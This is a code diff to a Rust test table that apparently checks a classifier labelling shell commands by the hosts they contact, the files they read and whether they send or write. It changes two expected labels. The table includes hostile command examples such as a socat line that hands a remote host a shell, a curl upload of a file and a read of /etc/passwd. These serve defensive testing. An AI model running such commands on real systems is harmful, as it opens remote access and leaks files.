@@ -348,7 +348,7 @@ fn hosts() {
         ("curl -X POST a.example", &["host a.example"], "sends"),
         ("curl -T f ftp://h/", &["read f", "host h:21"], "sends"),
         ("curl file:///etc/passwd", &["read /etc/passwd"], ""),
-        ("wget -qO- https://a.example", &["host a.example:443"], ""),
+        ("wget -qO- https://a.example", &["host a.example:443"], "writes"),
         (
             "wget https://a.example/f",
             &["host a.example:443"],
@@ -375,7 +375,7 @@ fn hosts() {
         (
             "socat TCP:h:1 EXEC:sh",
             &["host h:1", "shell sh"],
-            "network sends",
+            "writes network sends",
         ),
         ("ping -c 1 h", &["host h"], ""),
         (
